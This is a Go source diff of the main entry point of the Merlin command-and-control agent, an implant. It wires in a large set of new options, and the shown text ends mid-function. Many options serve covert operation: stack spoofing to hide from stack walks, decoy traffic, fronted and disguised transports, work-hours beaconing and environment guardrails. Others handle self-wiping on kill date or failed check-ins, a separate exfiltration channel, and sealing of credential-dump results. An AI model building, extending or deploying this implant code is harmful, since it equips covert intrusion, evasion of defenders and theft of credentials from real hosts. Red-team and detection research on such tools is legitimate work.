@@ -37,108 +37,393 @@ import (
 	"github.com/google/uuid"
 
 	"github.com/Ne0nd0g/merlin-agent/v2/agent"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/cert"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/kerberos"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/noise"
+	oAuth "github.com/Ne0nd0g/merlin-agent/v2/authenticators/opaque"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/totp"
+	"github.com/Ne0nd0g/merlin-agent/v2/bundle"
+	"github.com/Ne0nd0g/merlin-agent/v2/channel"
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/http"
+	preKey "github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/quic"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/raw"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/resolve"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/smb"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/tcp"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/udp"
+	"github.com/Ne0nd0g/merlin-agent/v2/commands"
+	"github.com/Ne0nd0g/merlin-agent/v2/config"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/deadman"
+	"github.com/Ne0nd0g/merlin-agent/v2/decoy"
+	"github.com/Ne0nd0g/merlin-agent/v2/detect"
+	"github.com/Ne0nd0g/merlin-agent/v2/exfil"
+	"github.com/Ne0nd0g/merlin-agent/v2/firewall"
+	"github.com/Ne0nd0g/merlin-agent/v2/guardrail"
+	"github.com/Ne0nd0g/merlin-agent/v2/monitor"
+	"github.com/Ne0nd0g/merlin-agent/v2/netwatch"
+	"github.com/Ne0nd0g/merlin-agent/v2/purple"
+	"github.com/Ne0nd0g/merlin-agent/v2/reauth"
+	"github.com/Ne0nd0g/merlin-agent/v2/record"
 	"github.com/Ne0nd0g/merlin-agent/v2/run"
+	"github.com/Ne0nd0g/merlin-agent/v2/schedule"
+	"github.com/Ne0nd0g/merlin-agent/v2/seal"
+	clientService "github.com/Ne0nd0g/merlin-agent/v2/services/client"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/job"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/job/governor"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/chunk"
+	pskRotation "github.com/Ne0nd0g/merlin-agent/v2/services/message/psk"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/reload"
+	"github.com/Ne0nd0g/merlin-agent/v2/spoof"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/envelope"
+	"github.com/Ne0nd0g/merlin-agent/v2/update"
+	"github.com/Ne0nd0g/merlin-agent/v2/wipe"
 )
 
 // GLOBAL VARIABLES
 // These are use hard code configurable options during compile time with Go's ldflags -X option
 
-// auth the authentication method the Agent will use to authenticate to the server
+// auth the authentication method the Agent will use to authenticate to the server, or a comma separated chain that must all succeed
 var auth = "opaque"
 
 // addr is the interface and port the agent will use for network connections
 var addr = "127.0.0.1:7777"
 
+// authcert the PEM or base64 encoded DER certificate issued to the Agent for the cert authenticator
+var authcert = ""
+
+// authkey the PEM or base64 encoded DER private key of the authcert certificate
+var authkey = ""
+
+// backup the number of consecutive failures before a backup C2 endpoint is promoted, and how often the primary is retried
+// while a backup is in use (e.g., 3:15m); used by the backup URL rotation strategy and tcp-reverse address lists
+var backup = "3:15m"
+
+// bundlekey the base64 encoded Ed25519 public key used to verify signed module bundles; empty refuses all bundles
+var bundlekey = ""
+
+// channelProfile the name of the channel profile whose transport, transforms, padding, and timing the agent uses; empty disables
+var channelProfile = ""
+
+// channelProfiles operator defined channel profiles as JSON, base64 encoded JSON, or a file path, added to the built-in ones
+var channelProfiles = ""
+
+// chunksize the maximum size, in bytes, of an encoded message before it is split across multiple check-ins; 0 disables
+var chunksize = "0"
+
+// configFile the path, relative to the agent's executable when not absolute, of an encrypted configuration file to load; empty disables
+var configFile = ""
+
+// configKey the key for the configuration file: hostname, machineid, or a passphrase
+var configKey = "machineid"
+
+// dnsttl how long the resolved C2 hostname addresses are cached before they are looked up again (e.g., 10m); 0 disables the cache
+var dnsttl = "0"
+
+// dnsoverride a semicolon separated list of host=address[,address] overrides used instead of resolving the C2 hostnames
+var dnsoverride = ""
+
+// embedded the base64 encoded, encrypted configuration created with -embedconfig that replaces the plaintext ldflags variables; empty disables
+var embedded = ""
+
+// embeddedKey the passphrase the embedded configuration was encrypted with. It is stored in the binary next to the blob,
+// so the embedded configuration only hides its values from strings and static signatures, not from analysis of the binary
+var embeddedKey = ""
+
+// decoyTargets comma separated http(s) URLs, or front for the fronted domain, that benign decoy requests are sent to; empty disables
+var decoyTargets = ""
+
+// decoyInterval the average time between decoy requests (e.g., 45s); 0 disables
+var decoyInterval = "60s"
+
+// deadmanWindow the longest amount of time the agent can go without reaching the server before the dead-man switch action is taken; 0 disables
+var deadmanWindow = "0"
+
+// deadmanAction the dead-man switch action: exit, uninstall[:artifacts], dormant[:duration], or transport:<address>
+var deadmanAction = "exit"
+
+// detectInterval how often the agent checks for signs it was detected and reports them immediately; 0 disables it
+var detectInterval = "0"
+
+// envPrefix the prefix of the environment variables, followed by the upper case flag name, that override the configuration; empty disables
+var envPrefix = "MERLIN_"
+
+// exfilChannel the URL of the split-tunnel data channel (https, http, or file) large file transfers are sent over; empty disables
+var exfilChannel = ""
+
+// exfilmin the minimum size, in bytes, of a file transfer that is sent over the split-tunnel data channel
+var exfilmin = "1M"
+
+// firewallRules a boolean value as a string that determines if bind-mode peer-to-peer listeners add a host firewall rule
+// allowing inbound connections, which is removed when the listener stops or the Agent exits
+var firewallRules = "false"
+
+// guardrails a semicolon separated list of type=value conditions the host must meet for the agent to run
+// (e.g., domain=corp.local;hostname=^WS-\d+$;username=alice;subnet=10.1.0.0/16;file=C:\ProgramData\marker.txt)
+var guardrails = ""
+
+// guardrailwipe a boolean value as a string that determines if the agent removes its executable when a guardrail isn't met
+var guardrailwipe = "false"
+
 // headers is a list of HTTP headers that the agent will use with the HTTP protocol to communicate with the server
 var headers = ""
 
 // host a specific HTTP header used with HTTP communications; notably used for domain fronting
 var host = ""
 
+// interpreter the default command interpreter for the shell command (e.g., bash or powershell), empty uses the OS default
+var interpreter = ""
+
 // ja3 a string that represents how the Agent should configure it TLS client
 var ja3 = ""
 
+// jobrate the maximum number of jobs the agent will start in any one minute; 0 is unlimited
+var jobrate = "0"
+
+// kerberosspn the Service Principal Name of the internal listener the kerberos authenticator requests a service ticket for
+var kerberosspn = ""
+
 // killdate the date and time, as a unix epoch timestamp, that the agent will quit running
 var killdate = "0"
 
+// killwipe a boolean value as a string that determines if the agent removes the files it wrote to the host, and its own
+// executable, when the kill date is reached
+var killwipe = "false"
+
 // listener the UUID of the peer-to-peer listener this agent belongs to, used with delegate messages
 var listener = ""
 
 // maxretry the number of failed connections to the server before the agent will quit running
 var maxretry = "7"
 
+// maxretrywipe a boolean value as a string that determines if the agent removes the files it wrote to the host, and its
+// own executable, when the maximum number of failed checkins is reached
+var maxretrywipe = "false"
+
+// monitorMode a boolean value as a string that determines if the agent runs in read-only monitor mode where only passive
+// collection and reconnaissance jobs are executed
+var monitorMode = "false"
+
+// netjobs the maximum number of network-heavy jobs (e.g., file transfers) the agent will run at the same time; 0 is unlimited
+var netjobs = "0"
+
+// netwatchInterval how often the agent checks for network changes (e.g., 10s) to refresh the client and check in early; 0, the default, disables
+var netwatchInterval = "0"
+
+// noisekey the Agent's base64 encoded static X25519 private key for the noise authenticator; empty generates one at startup
+var noisekey = ""
+
+// noiseserver the server's base64 encoded static X25519 public key the noise authenticator's handshake is made with
+var noiseserver = ""
+
+// obfs the obfuscation wrapper the agent will use to disguise tcp-bind, tcp-reverse, smb-bind, and smb-reverse traffic (e.g., faketls or dcerpc)
+var obfs = ""
+
 // opaque the EnvU data from OPAQUE registration so the agent can skip straight to authentication
 var opaque []byte
 
-// padding the maximum size for random amounts of data appended to all messages to prevent static message sizes
+// p2psleep the minimum time between messages a tcp peer-to-peer agent sends upstream; 0 sends at the parent's cadence
+var p2psleep = "0"
+
+// p2pjitter the percentage, 0 to 100, of the p2psleep that is randomly added or subtracted
+var p2pjitter = "0"
+
+// padding the maximum size for random amounts of data appended to all messages to prevent static message sizes, or
+// distributions of padding sizes per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
 var padding = "4096"
 
 // parrot a string from the https://github.com/refraction-networking/utls#parroting library to mimic a specific browser
 var parrot = ""
 
+// ech the server's base64 encoded ECHConfigList, or a file containing it, used to encrypt the TLS Client Hello
+var ech = ""
+
+// echFallback allows a TLS handshake without ECH when the server rejects ECH without sending new configurations
+var echFallback = "false"
+
+// pin a comma separated list of the server's pinned SPKI SHA256 hashes or certificates; empty disables pinning
+var pin = ""
+
+// profile the malleable HTTP profile as JSON, base64 encoded JSON, or the path to a JSON file
+var profile = ""
+
 // protocol the communication protocol the agent will use to communicate with the server
 var protocol = "h2"
 
+// purpleCmds a comma separated list of commands that also generate harmless, labeled artifacts for defenders to detect
+var purpleCmds = ""
+
+// rawproto the IP protocol number the agent will use with the raw-bind and raw-reverse protocols
+var rawproto = "253"
+
+// prekey a boolean value as a string that determines if the agent agrees on an ephemeral X25519 pre-authentication
+// secret with the server before authenticating so a weak PSK can't be brute-forced from captured traffic
+var prekey = "false"
+
 // proxy the address of HTTP proxy to send HTTP traffic through
 var proxy = ""
 
-// psk is the Pre-Shared Key, the secret used to encrypt messages communications with the server
+// psk is the Pre-Shared Key, the secret used to encrypt messages communications with the server, or a comma separated,
+// ordered list of them that are tried in turn when a message from the server can't be decrypted
 var psk = "merlin"
 
+// pskkey the base64 encoded Ed25519 public key used to verify server-signed PSK rotations; empty refuses all rotations
+var pskkey = ""
+
+// recordEngagement a boolean value as a string that determines if the agent timestamps and hashes the commands, targets,
+// and artifacts of every job into an engagement record that can be exported with the record module
+var recordEngagement = "false"
+
+// recoverykey the base64 encoded Ed25519 public key used to verify OPAQUE re-registration requests; empty accepts unsigned requests
+var recoverykey = ""
+
+// rotation the strategy used to rotate through multiple URLs: random, round-robin, time-sliced[:duration], failover, or race[:limit]
+var rotation = "random"
+
+// sealkey the base64 encoded X25519 public key of an offline operator key pair that sensitive job results are sealed to; empty disables
+var sealkey = ""
+
+// sealcmds the comma separated list of commands whose results are sealed to the sealkey; * seals every result
+var sealcmds = "minidump,credprompt,sshagent,git,secrets,credman"
+
 // secure a boolean value as a string that determines the value of the TLS InsecureSkipVerify option for HTTP
 // communications.
 // Must be a string, so it can be set from the Makefile
 var secure = "false"
 
+// serverkey the server's X25519 or RSA public key that the envelope transform encrypts each message's key to; empty disables
+var serverkey = ""
+
 // sleep the amount of time the agent will sleep before it attempts to check in with the server
 var sleep = "30s"
 
 // skew the maximum size for random amounts of time to add to the sleep value to vary checkin times
 var skew = "3000"
 
+// stackspoof a boolean value as a string that determines if the agent spoofs the return address of sensitive Windows API
+// calls and of its sleep so stack walks show a signed system DLL instead of the agent
+var stackspoof = "false"
+
+// throttle the maximum rate, in bytes per second, the agent will send data (e.g., 512K); empty is unlimited
+var throttle = ""
+
+// totpseed the base32 or base64 encoded seed the totp authenticator computes time-based one-time values from
+var totpseed = ""
+
+// reauthenticate the message count and/or interval after which the agent authenticates again to establish a new secret with a fresh key exchange (e.g., 500,12h); empty never re-authenticates
+var reauthenticate = ""
+
+// rekey the message count and/or interval after which the agent derives a new secret from its current one (e.g., 100,30m); empty never rekeys
+var rekey = ""
+
 // transforms is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message
-// that will be sent to the server
+// Multiple lists separated by a semicolon are transformer chains and one is picked at random for each message
+// that will be sent to the server. Steps of the custom data transform language, such as prepend:MZ or append:rand(64),
+// can be used alongside the built-in transforms
 var transforms = "jwe,gob-base"
 
+// updatekey the base64 encoded Ed25519 public key used to verify signed Agent executable updates; empty refuses all updates
+var updatekey = ""
+
 // url the protocol, address, and port of the Agent's command and control server to communicate with
 var url = "https://127.0.0.1:443"
 
 // useragent the HTTP User-Agent header for HTTP communications
 var useragent = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/40.0.2214.85 Safari/537.36"
 
+// workhours the days and times of day the agent checks in (e.g., 08:00-18:00,mon-fri), auto to derive them from the host's
+// locale and timezone at the first check in, or empty to check in at all times
+var workhours = ""
+
 func main() {
 	verbose := flag.Bool("v", false, "Enable verbose output")
 	version := flag.Bool("version", false, "Print the agent version and exit")
 	debug := flag.Bool("debug", false, "Enable debug output")
-	flag.StringVar(&auth, "auth", auth, "The Agent's authentication method (e.g, OPAQUE")
-	flag.StringVar(&addr, "addr", addr, "The address in interface:port format the agent will use for communications")
-	flag.StringVar(&transforms, "transforms", transforms, "Ordered CSV of transforms to construct a message")
+	flag.StringVar(&auth, "auth", auth, "The Agent's authentication method (e.g, OPAQUE) or an ordered, comma separated chain of methods that must all succeed (e.g., none,opaque)")
+	flag.StringVar(&addr, "addr", addr, "The address in interface:port format the agent will use for communications, or the airgap directory with an optional qr: prefix for QR code sized text files")
+	flag.StringVar(&authcert, "authcert", authcert, "PEM or base64 encoded certificate issued to the Agent for the cert authenticator")
+	flag.StringVar(&authkey, "authkey", authkey, "PEM or base64 encoded private key of the -authcert certificate")
+	flag.StringVar(&noisekey, "noisekey", noisekey, "Base64 encoded static X25519 private key of the Agent for the noise authenticator")
+	flag.StringVar(&noiseserver, "noiseserver", noiseserver, "Base64 encoded static X25519 public key of the server for the noise authenticator")
+	flag.StringVar(&kerberosspn, "kerberosspn", kerberosspn, "Service Principal Name of the listener for the kerberos authenticator (e.g., HTTP/listener.corp.local)")
+	flag.StringVar(&totpseed, "totpseed", totpseed, "Base32 or base64 encoded seed of at least 16 bytes for the totp authenticator's time-based one-time values")
+	flag.StringVar(&transforms, "transforms", transforms, "Ordered CSV of transforms to construct a message; separate multiple chains with a semicolon")
 	flag.StringVar(&url, "url", url, "A comma separated list of the full URLs for the agent to connect to")
-	flag.StringVar(&psk, "psk", psk, "Pre-Shared Key used to encrypt initial communications")
-	flag.StringVar(&protocol, "proto", protocol, "Protocol for the agent to connect with [https (HTTP/1.1), http (HTTP/1.1 Clear-Text), h2 (HTTP/2), h2c (HTTP/2 Clear-Text), http3 (QUIC or HTTP/3.0), tcp-bind, tcp-reverse, udp-bind, udp-reverse, smb-bind, smb-reverse]")
+	flag.StringVar(&prekey, "prekey", prekey, "Agree on an ephemeral X25519 pre-authentication secret with the server before authenticating")
+	flag.StringVar(&psk, "psk", psk, "Pre-Shared Key used to encrypt initial communications, or a comma separated, ordered list of them tried in turn")
+	flag.StringVar(&pskkey, "pskkey", pskkey, "Base64 encoded Ed25519 public key used to verify server-signed PSK rotations")
+	flag.StringVar(&protocol, "proto", protocol, "Protocol for the agent to connect with [https (HTTP/1.1), http (HTTP/1.1 Clear-Text), h2 (HTTP/2), h2c (HTTP/2 Clear-Text), http3 (QUIC or HTTP/3.0), tcp-bind, tcp-reverse, udp-bind, udp-reverse, smb-bind, smb-reverse, raw-bind, raw-reverse, quic, airgap]")
+	flag.StringVar(&rawproto, "rawproto", rawproto, "The IP protocol number used with the raw-bind and raw-reverse protocols")
+	flag.StringVar(&ech, "ech", ech, "The server's base64 encoded ECHConfigList, or a file containing it, to encrypt the TLS Client Hello for h2 and https")
+	flag.StringVar(&echFallback, "echfallback", echFallback, "Allow a TLS handshake without ECH when the server rejects ECH without sending new configurations")
+	flag.StringVar(&pin, "pin", pin, "Comma separated list of pinned server SPKI SHA256 hashes (base64 or hex), PEM certificates, or certificate files")
+	flag.StringVar(&profile, "profile", profile, "Malleable HTTP profile as JSON, base64 encoded JSON, or a file path")
 	flag.StringVar(&proxy, "proxy", proxy, "Hardcoded proxy to use for http/1.1 traffic only that will override host configuration")
 	flag.StringVar(&host, "host", host, "HTTP Host header")
+	flag.StringVar(&channelProfile, "channel", channelProfile, "Channel profile whose transport, transforms, padding, and timing settings are used unless given on the command line (e.g., office365-https)")
+	flag.StringVar(&channelProfiles, "channels", channelProfiles, "Additional channel profiles as a JSON profile or list of profiles, base64 encoded JSON, or a file path")
+	flag.StringVar(&backup, "backup", backup, "Consecutive failures before the next backup C2 endpoint is promoted, and how often the primary is retried, for the backup rotation strategy and tcp-reverse address lists (e.g., 3:15m)")
+	flag.StringVar(&bundlekey, "bundlekey", bundlekey, "Base64 encoded Ed25519 public key used to verify signed module bundles")
+	flag.StringVar(&updatekey, "updatekey", updatekey, "Base64 encoded Ed25519 public key used to verify signed Agent executable updates")
+	flag.StringVar(&jobrate, "jobrate", jobrate, "Maximum number of jobs started per minute; 0 is unlimited")
+	flag.StringVar(&decoyTargets, "decoy", decoyTargets, "Comma separated http(s) URLs, or front for the fronted domain, that benign decoy requests are sent to")
+	flag.StringVar(&decoyInterval, "decoyinterval", decoyInterval, "Average time between decoy requests; 0 disables")
+	flag.StringVar(&dnsttl, "dnsttl", dnsttl, "How long resolved C2 hostname addresses are cached, and reused through DNS outages or sinkholed responses, before they are looked up again (e.g., 10m); 0 disables")
+	flag.StringVar(&dnsoverride, "dnsoverride", dnsoverride, "Semicolon separated host=address[,address] overrides used instead of resolving the C2 hostnames")
+	flag.StringVar(&netwatchInterval, "netwatch", netwatchInterval, "How often to check for network changes that refresh the client and trigger an early check in; 0 disables")
+	flag.StringVar(&netjobs, "netjobs", netjobs, "Maximum number of network-heavy jobs, like file transfers, that run at the same time; 0 is unlimited")
+	flag.StringVar(&chunksize, "chunksize", chunksize, "Maximum message size in bytes, with an optional K or M suffix, before it is split across multiple check-ins; 0 disables")
+	flag.StringVar(&deadmanWindow, "deadman", deadmanWindow, "Take the dead-man switch action if the agent can't reach the server within this amount of time (e.g., 72h); 0 disables")
+	flag.StringVar(&deadmanAction, "deadmanaction", deadmanAction, "Dead-man switch action: exit, uninstall[:artifacts], dormant[:duration], or transport:<address>")
+	flag.StringVar(&detectInterval, "detect", detectInterval, "How often to check for, and immediately report, signs the agent was detected such as a quarantined executable (e.g., 30s); 0 disables it")
+	flag.StringVar(&exfilChannel, "exfil", exfilChannel, "URL of a separate data channel (https, http, or file) that large file transfers are sent over; {id} is replaced with the transfer ID")
+	flag.StringVar(&exfilmin, "exfilmin", exfilmin, "Minimum file transfer size, with an optional K, M, or G suffix, sent over the -exfil data channel")
+	flag.StringVar(&firewallRules, "firewall", firewallRules, "Add a host firewall rule for bind-mode peer-to-peer listeners that is removed when the listener stops or the Agent exits")
+	flag.StringVar(&interpreter, "interpreter", interpreter, "Default interpreter for the shell command [cmd, powershell, pwsh, bash, zsh, sh]")
 	flag.StringVar(&ja3, "ja3", ja3, "JA3 signature string (not the MD5 hash). Overrides -proto & -parrot flags")
 	flag.StringVar(&parrot, "parrot", ja3, "parrot or mimic a specific browser from github.com/refraction-networking/utls (e.g., HelloChrome_Auto)")
+	flag.StringVar(&stackspoof, "stackspoof", stackspoof, "Spoof the return address of sensitive Windows API calls and of the Agent's sleep to hide the Agent from stack walks")
+	flag.StringVar(&purpleCmds, "purple", purpleCmds, "Comma separated list of commands that also generate harmless, labeled marker files, registry keys, and process trees for defenders; * selects every command")
+	flag.StringVar(&recordEngagement, "record", recordEngagement, "Timestamp and hash the commands, targets, and artifacts of every job into an engagement record exported with the record module")
+	flag.StringVar(&recoverykey, "recoverykey", recoverykey, "Base64 encoded Ed25519 public key used to verify OPAQUE re-registration requests after the server lost the Agent's registration")
+	flag.StringVar(&rotation, "rotation", rotation, "URL rotation strategy [random, round-robin, time-sliced[:duration], failover, race[:limit], backup]")
+	flag.StringVar(&serverkey, "serverkey", serverkey, "The server's base64 X25519 or PEM RSA public key the envelope transform encrypts each message's key to")
+	flag.StringVar(&sealkey, "sealkey", sealkey, "Base64 encoded X25519 public key of an offline operator key pair that sensitive job results are sealed to")
+	flag.StringVar(&sealcmds, "sealcmds", sealcmds, "Comma separated list of commands whose results are sealed to the -sealkey; * seals every result")
 	flag.StringVar(&secure, "secure", secure, "Require TLS certificate validation for HTTP communications")
 	flag.StringVar(&sleep, "sleep", sleep, "Time for agent to sleep")
 	flag.StringVar(&skew, "skew", skew, "Amount of skew, or variance, between agent checkins")
+	flag.StringVar(&envPrefix, "envprefix", envPrefix, "Prefix of the environment variables, followed by the upper case flag name (e.g., MERLIN_SLEEP), that override the configuration; empty disables")
+	flag.StringVar(&configFile, "configfile", configFile, "Encrypted configuration file to load, relative to the agent's executable when not absolute")
+	flag.StringVar(&configKey, "configkey", configKey, "Key for the configuration file: hostname, machineid, or a passphrase; when encrypting, the target's lower case hostname or machine ID")
+	embedConfig := flag.String("embedconfig", "", "Print the agent's configuration encrypted with the passphrase, base64 encoded for the embedded ldflags variable, and exit")
+	encryptConfig := flag.String("encryptconfig", "", "Encrypt the JSON configuration file, as exported by the config module, to the -configfile path with the -configkey passphrase and exit")
+	flag.StringVar(&guardrails, "guardrails", guardrails, "Semicolon separated type=value conditions the host must meet before the agent touches the network [domain, hostname, username, subnet, file]")
+	flag.StringVar(&guardrailwipe, "guardrailwipe", guardrailwipe, "Remove the agent's executable when the host doesn't meet a guardrail")
 	flag.StringVar(&killdate, "killdate", killdate, "The date, as a Unix EPOCH timestamp, that the agent will quit running")
+	flag.StringVar(&killwipe, "killwipe", killwipe, "Remove the files the agent wrote to the host, and its own executable, when the kill date is reached")
 	flag.StringVar(&listener, "listener", listener, "The uuid of the peer-to-peer listener this agent should connect to")
+	flag.StringVar(&monitorMode, "monitor", monitorMode, "Run in read-only monitor mode, only passive collection and reconnaissance jobs are executed")
 	flag.StringVar(&maxretry, "maxretry", maxretry, "The maximum amount of failed checkins before the agent will quit running")
-	flag.StringVar(&padding, "padding", padding, "The maximum amount of data that will be randomly selected and appended to every message")
+	flag.StringVar(&maxretrywipe, "maxretrywipe", maxretrywipe, "Remove the files the agent wrote to the host, and its own executable, when the maximum amount of failed checkins is reached")
+	flag.StringVar(&obfs, "obfs", obfs, "Obfuscation wrapper for tcp-bind and tcp-reverse traffic [faketls] or smb-bind and smb-reverse traffic [dcerpc, dcerpc:<srvsvc|wkssvc|samr|lsarpc|spoolss|netlogon>]")
+	flag.StringVar(&p2psleep, "p2psleep", p2psleep, "Minimum time between messages a tcp peer-to-peer agent sends upstream (e.g., 30s); 0 sends at the parent's cadence")
+	flag.StringVar(&p2pjitter, "p2pjitter", p2pjitter, "Percentage, 0 to 100, of the p2psleep that is randomly added or subtracted")
+	flag.StringVar(&padding, "padding", padding, "The maximum amount of data that will be randomly selected and appended to every message, or padding size distributions (e.g., checkin=lognormal:600:0.5;normal:2048:512)")
+	flag.StringVar(&throttle, "throttle", throttle, "Maximum outbound bandwidth in bytes per second with an optional K, M, or G suffix (e.g., 512K)")
+	flag.StringVar(&rekey, "rekey", rekey, "Message count and/or interval after which a new secret is derived (e.g., 100,30m)")
+	flag.StringVar(&reauthenticate, "reauth", reauthenticate, "Message count and/or interval after which the Agent re-authenticates to establish a new secret (e.g., 500,12h)")
 	flag.StringVar(&useragent, "useragent", useragent, "The HTTP User-Agent header string that the Agent will use while sending traffic")
+	flag.StringVar(&workhours, "workhours", workhours, "The days and times of day the Agent checks in (e.g., 08:00-18:00,mon-fri), or auto to derive them from the host's locale and timezone")
 	flag.StringVar(&headers, "headers", headers, "A new line separated (e.g., \\n) list of additional HTTP headers to use")
 
 	flag.Usage = usage
 
-	if len(os.Args) <= 1 {
+	// An Agent started by an update reads the handover, not its arguments, from STDIN
+	if len(os.Args) <= 1 && os.Getenv(update.ENV) == "" {
 		input := make(chan string, 1)
 		var stdin string
 		go getArgsFromStdIn(input, *verbose)
@@ -157,6 +442,128 @@ func main() {
 	}
 	flag.Parse()
 
+	// Flags on the command line take precedence over the environment, the configuration file, and the embedded configuration
+	explicit := make(map[string]bool)
+	flag.Visit(func(f *flag.Flag) {
+		explicit[f.Name] = true
+	})
+
+	// An Agent with an embedded configuration must never print or re-encrypt it for whoever holds the binary
+	if embedded != "" && (*embedConfig != "" || *encryptConfig != "") {
+		if *verbose {
+			color.Red("the -embedconfig and -encryptconfig flags can't be used by an agent with an embedded configuration")
+		}
+		os.Exit(1)
+	}
+
+	// Decrypt the embedded configuration
+	if embedded != "" {
+		c, err := config.Embedded(embedded, embeddedKey)
+		if err == nil {
+			err = applyConfig(c, explicit)
+		}
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+	}
+
+	// Environment variables set by the process that started the Agent take precedence over everything but the command line
+	if envPrefix != "" {
+		var names []string
+		flag.VisitAll(func(f *flag.Flag) {
+			switch f.Name {
+			case "embedconfig", "encryptconfig", "envprefix":
+			default:
+				names = append(names, f.Name)
+			}
+		})
+		c := config.Config{Settings: config.Environment(envPrefix, names)}
+		err := applyConfig(c, explicit)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+		for name := range c.Settings {
+			explicit[name] = true
+		}
+	}
+
+	// Encrypt a configuration file for the target and quit
+	if *encryptConfig != "" {
+		err := encryptConfigFile(*encryptConfig)
+		if err != nil {
+			color.Red(err.Error())
+			os.Exit(1)
+		}
+		color.Green(fmt.Sprintf("Wrote the encrypted configuration to %s", configFile))
+		os.Exit(0)
+	}
+
+	// Load the encrypted configuration file
+	if configFile != "" {
+		err := loadConfigFile(explicit)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+	}
+
+	// The channel profile's settings take precedence over the configuration file and the embedded configuration
+	err := applyChannel(explicit)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Continue as the Agent this one replaced when it was started by an update. Its effective configuration, with the
+	// settings the server pushed, switched, or rotated, takes precedence over everything the new Agent was started with
+	handover, resumed, err := update.Resumed()
+	if err == nil && resumed {
+		c := config.Config{Settings: make(map[string]string)}
+		for name, value := range handover.Settings {
+			// A setting this version of the Agent doesn't have a flag for is left behind
+			if flag.Lookup(name) != nil {
+				c.Settings[name] = value
+			}
+		}
+		err = applyConfig(c, nil)
+	}
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Keep the configuration the Agent was started with so that it can be exported to build new Agents
+	flag.VisitAll(func(f *flag.Flag) {
+		switch f.Name {
+		case "debug", "embedconfig", "encryptconfig", "v", "version":
+		default:
+			config.Set(f.Name, f.Value.String())
+		}
+	})
+
+	// Print the encrypted configuration for the embedded ldflags variable and quit
+	if *embedConfig != "" {
+		blob, err := config.Embed(*embedConfig)
+		if err != nil {
+			color.Red(err.Error())
+			os.Exit(1)
+		}
+		fmt.Print(blob)
+		os.Exit(0)
+	}
+
 	if *version {
 		color.Blue(fmt.Sprintf("Merlin Agent Version: %s", core.Version))
 		color.Blue(fmt.Sprintf("Merlin Agent Build: %s", core.Build))
@@ -166,8 +573,35 @@ func main() {
 	core.Debug = *debug
 	core.Verbose = *verbose
 
+	// Quit, without ever touching the network, if the host isn't the environment the agent was built for
+	err = guardrail.Set(guardrails)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = guardrail.SetWipe(guardrailwipe)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = guardrail.Check()
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		if guardrail.Wipe() {
+			wipe.Wipe()
+		}
+		os.Exit(0)
+	}
+
 	// Setup and run agent
 	agentConfig := agent.Config{
+		ID:       handover.Agent,
 		Sleep:    sleep,
 		Skew:     skew,
 		KillDate: killdate,
@@ -181,6 +615,306 @@ func main() {
 		os.Exit(1)
 	}
 
+	// Only execute passive collection and reconnaissance jobs in read-only monitor mode
+	err = monitor.SetEnabled(monitorMode)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the default command interpreter
+	err = commands.SetInterpreter(interpreter)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the certificate and private key used by the cert authenticator
+	err = cert.SetCredentials(authcert, authkey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the static keys used by the noise authenticator's handshake
+	err = noise.SetKeys(noisekey, noiseserver)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the seed and PSK the totp authenticator's one-time values are computed from and mixed with.
+	// When there is a list of PSKs, the first one is used, the same one the clients start with
+	err = totp.SetSeed(totpseed, clients.PSKs(psk)[0])
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the SPN of the listener the kerberos authenticator requests a service ticket for
+	err = kerberos.SetSPN(kerberosspn)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the public key used to verify OPAQUE re-registration requests
+	err = oAuth.SetRecoveryKey(recoverykey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the public key used to verify module bundles
+	err = bundle.SetKey(bundlekey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the public key used to verify Agent executable updates
+	err = update.SetKey(updatekey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
